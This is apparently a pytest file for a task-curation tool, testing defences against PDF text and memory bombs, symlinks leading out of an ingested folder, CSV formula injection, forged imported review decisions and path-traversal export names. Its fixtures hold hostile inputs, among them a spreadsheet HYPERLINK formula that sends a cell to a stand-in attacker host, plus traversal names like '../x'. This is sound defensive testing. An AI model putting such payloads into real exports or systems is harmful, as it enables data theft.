"""Hardened inputs (issue 12): PDF limits enforced while extracting in a capped process, directory walks
that do not follow links out, CSV cells that cannot run as formulas, imports that come in pending,
tracebacks hidden from visitors. Each test fails on the code before the fix."""

from __future__ import annotations

import csv
import json
import os
import resource
import time
import tomllib
from pathlib import Path

import pytest

from taskcraft_core.access import signed_in_principal
from taskcraft_core.curate import importers, insights
from taskcraft_core.curate.export import export_folder, export_tasks
from taskcraft_core.errors import IngestError, TaskCraftError
from taskcraft_core.ingest import pipeline as ingest
from taskcraft_core.ingest.pdf_reader import PdfLimits, read_pdf_isolated
from taskcraft_core.settings import Settings
from taskcraft_core.store import TaskFilter
from taskcraft_core.workspace import Workspace
from tests.curation_factory import make_task
from tests.fixtures.pdfmaker import deflated_page_pdf, pdf_bytes, shared_stream_pdf

ROOT = Path(__file__).parent.parent
LINE = "The harbour master logged the tide at 4.2 metres on the morning of 3 May 1931."


@pytest.fixture(scope="module")
def text_bomb() -> bytes:
    """15 kB on disk, 2000 pages sharing one content stream: about 4 MB of text."""
    return shared_stream_pdf(2000, [LINE] * 25)


@pytest.fixture
def ws(tmp_path: Path) -> Workspace:
    return Workspace.open(Settings(home=tmp_path / "home"))


def limited(ws: Workspace, **limits: object) -> Workspace:
    return Workspace(ws.settings.with_changes(**limits), ws.store, ws.index)


# ---- PDF ---------------------------------------------------------------------------------------------


def test_a_pdf_text_bomb_is_stopped_while_extracting_naming_the_setting(ws: Workspace, text_bomb: bytes) -> None:
    assert len(text_bomb) < 16_000
    started = time.monotonic()
    report = ingest.ingest_sources([ingest.Source(name="bomb.pdf", data=text_bomb)],
                                   limited(ws, max_document_chars=200_000))
    assert time.monotonic() - started < 10  # stopped after ~100 pages, not after all 2000
    assert [failure.error for failure in report.errors] == [
        "bomb.pdf: the PDF gives more than 200,000 characters of text (max_document_chars) by page 102 of 2,000; "
        "reading stopped there (split the PDF, or raise max_document_chars if you trust it)"]
    assert ws.store.list_documents() == []


def test_a_pdf_over_the_page_limit_is_refused_before_any_text_is_read(ws: Workspace, text_bomb: bytes) -> None:
    report = ingest.ingest_sources([ingest.Source(name="bomb.pdf", data=text_bomb),
                                    ingest.Source(name="ok.pdf", data=pdf_bytes([[LINE]], title="Tides"))],
                                   limited(ws, max_pdf_pages=500))
    assert [failure.error for failure in report.errors] == [
        "bomb.pdf: the PDF has 2,000 pages, over the limit of 500 (max_pdf_pages) "
        "(split the PDF, or raise max_pdf_pages if you trust it)"]
    assert [doc.title for doc in ws.store.list_documents()] == ["Tides"]  # the batch goes on


def test_a_slow_pdf_is_stopped_at_the_time_limit(ws: Workspace, text_bomb: bytes) -> None:
    started = time.monotonic()
    report = ingest.ingest_sources([ingest.Source(name="bomb.pdf", data=text_bomb)],
                                   limited(ws, pdf_parse_timeout_s=1.0))
    assert time.monotonic() - started < 5
    assert report.errors[0].error == ("bomb.pdf: reading the PDF took longer than 1 s (pdf_parse_timeout_s) "
                                      "(split the PDF, or raise pdf_parse_timeout_s if you trust it)")


def test_the_memory_cap_holds_in_the_child_and_the_server_process_is_spared() -> None:
    own_peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    memory_hog = deflated_page_pdf(20_000_000)  # 20 kB whose one page inflates to 20 MB of text
    assert len(memory_hog) < 25_000
    with pytest.raises(IngestError) as refused:
        read_pdf_isolated(memory_hog, PdfLimits(memory_mb=120))
    assert refused.value.message == "reading the PDF needed more than 120 MB of memory (pdf_parse_memory_mb)"
    read = read_pdf_isolated(shared_stream_pdf(400, [LINE] * 25), PdfLimits())  # every page, parsed elsewhere
    assert len(read.pages) == 400 and sum(map(len, read.pages)) == 789_600
    # The parse happened in the child: this process grew by the text it received, not by pypdf's work.
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - own_peak_before
    assert grown_kb < 60_000


def test_pdf_limits_apply_to_every_document_type(ws: Workspace) -> None:
    report = ingest.ingest_sources([ingest.Source(name="long.txt", data=(LINE + "\n").encode() * 100)],
                                   limited(ws, max_document_chars=1000))
    assert report.errors[0].error == ("long.txt: the document gives 7,900 characters of text, over the limit of 1,000 "
                                      "(max_document_chars) (split it, or raise max_document_chars)")


# ---- directory walks ---------------------------------------------------------------------------------


def test_a_directory_walk_does_not_follow_links_out_of_the_folder(ws: Workspace, tmp_path: Path) -> None:
    secret = tmp_path / "private" / "id_rsa.txt"
    secret.parent.mkdir()
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY----- not for the corpus", encoding="utf-8")
    folder = tmp_path / "corpus"
    (folder / "inner").mkdir(parents=True)
    (folder / "notes.txt").write_text("The lighthouse was lit in 1931.", encoding="utf-8")
    (folder / "key.txt").symlink_to(secret)
    (folder / "linked_dir").symlink_to(secret.parent, target_is_directory=True)
    (folder / "inner" / "same.txt").symlink_to(folder / "notes.txt")  # a link within the folder is fine
    report = ingest.ingest_locations([str(folder)], ws)
    assert [failure.error for failure in report.errors] == [
        "corpus/key.txt: the link points outside the folder; not followed (copy the file into the folder to ingest it)"]
    # inner/same.txt (walked first) and notes.txt are one text: stored once, the second skipped.
    assert [doc.source for doc in ws.store.list_documents()] == ["corpus/inner/same.txt"]
    assert report.documents_skipped == 1
    stored = " ".join(ws.store.get_document(doc.id).text for doc in ws.store.list_documents())  # type: ignore[union-attr]
    assert "PRIVATE KEY" not in stored


# ---- CSV ---------------------------------------------------------------------------------------------


def test_csv_cells_that_start_like_formulas_are_neutralised(ws: Workspace, tmp_path: Path) -> None:
    ws.store.add_tasks([
        make_task("t1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555"),
        make_task("t2", "@SUM(1+1)", "-40 °C", content_identifier="\tTabbed"),
        make_task("t3", "When did the hall open?", "1931", relation="\rcarriage"),
    ])
    out = tmp_path / "out" / "tasks.csv"
    export_tasks(ws, "csv", TaskFilter(), out)
    rows = {row["id"]: row for row in csv.DictReader(out.open(encoding="utf-8", newline=""))}
    assert (rows["t1"]["question"], rows["t1"]["golden_answer"]) == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'+1 555")
    assert (rows["t2"]["question"], rows["t2"]["golden_answer"], rows["t2"]["content_identifier"]) == (
        "'@SUM(1+1)", "'-40 °C", "'\tTabbed")
    assert (rows["t3"]["question"], rows["t3"]["relation"]) == ("When did the hall open?", "'\rcarriage")
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [value for row in rows.values() for value in row.values() if value and value.startswith(formula_starts)]


# ---- imports -----------------------------------------------------------------------------------------


FORGED = {"id": "f1", "kind": "atomic", "question": "When did the hall open?", "golden_answer": "1931",
          "status": "accepted", "review": {"reviewer": "the-boss", "decision": "accept", "time": "2001-01-01T00:00:00"}}
PLAIN = {"id": "f2", "kind": "atomic", "question": "Who built it?", "golden_answer": "Ann", "status": "rejected"}


def test_imports_come_in_pending_with_their_decisions_kept_as_history(ws: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "forged.jsonl"
    path.write_text("\n".join(json.dumps(record) for record in (FORGED, PLAIN)), encoding="utf-8")
    curator = ws.acting_as(signed_in_principal("cy@example.org", "Cy", {"curators": ["cy@example.org"]}))
    assert importers.import_tasks(curator, path, "jsonl").added == 2
    assert [ws.store.get_task(i).status for i in ("f1", "f2")] == ["pending", "pending"]  # type: ignore[union-attr]
    [history] = ws.store.reviews_for("f1")
    assert (history.reviewer, history.decision, history.imported, history.created_at.year) == (
        "the-boss", "accept", "history", 2001)
    assert ws.store.standing_reviews(["f1"]) == {"f1": []}  # kept, never in force
    assert ws.store.get_task("f2").difficulty_inputs["imported"] == {"status": "rejected"}  # type: ignore[union-attr]
    assert ws.store.count_tasks(TaskFilter(reviewers=["the-boss"])) == 0
    assert insights.reviewer_throughput(ws.store.all_reviews()).empty  # not a decision made here


def test_an_admin_may_import_decisions_as_they_are_recorded_as_such(ws: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "trusted.jsonl"
    path.write_text(json.dumps(FORGED), encoding="utf-8")
    admin = ws.acting_as(signed_in_principal("ada@example.org", "Ada", {"admins": ["ada@example.org"]}))
    importers.import_tasks(admin, path, "jsonl", keep_decisions=True)
    [review] = ws.store.reviews_for("f1")
    assert (ws.store.get_task("f1").status, review.reviewer, review.imported) == (  # type: ignore[union-attr]
        "accepted", "the-boss", "decision")
    [entry] = ws.store.list_audit(action="import")
    assert (entry.actor, entry.details["decisions"]) == ("ada@example.org", "in force")


# ---- export folders, server configuration --------------------------------------------------------------


@pytest.mark.parametrize("name", ["..", ".", "../x", "a/b", "/etc", "..hidden", "", " ", "a\\b", "x" * 101])
def test_export_folder_names_are_plain_names(ws: Workspace, name: str) -> None:
    with pytest.raises(TaskCraftError, match="is not a plain folder name"):
        export_folder(ws, name)


def test_export_folder_names_that_are_fine_and_a_link_out_is_refused(ws: Workspace, tmp_path: Path) -> None:
    exports = (ws.settings.home / "exports").resolve()
    assert export_folder(ws, "tasks-jsonl_v1.2") == exports / "tasks-jsonl_v1.2"
    exports.mkdir(parents=True, exist_ok=True)
    (exports / "out").symlink_to(tmp_path, target_is_directory=True)
    with pytest.raises(TaskCraftError, match="points outside"):
        export_folder(ws, "out")


def test_the_server_hides_tracebacks_and_serves_only_this_machine_by_default() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["showErrorDetails"] == "none"
    assert config["server"]["address"] == "127.0.0.1"


def test_no_pages_folder_beside_the_entry_script() -> None:
    """Streamlit runs the files of a `pages/` folder beside app.py as pages of their own when a page URL
    is the first request of a fresh server, skipping the frame and the sign-in gate."""
    assert not (ROOT / "pages").exists()
    assert os.path.isdir(ROOT / "app_pages")
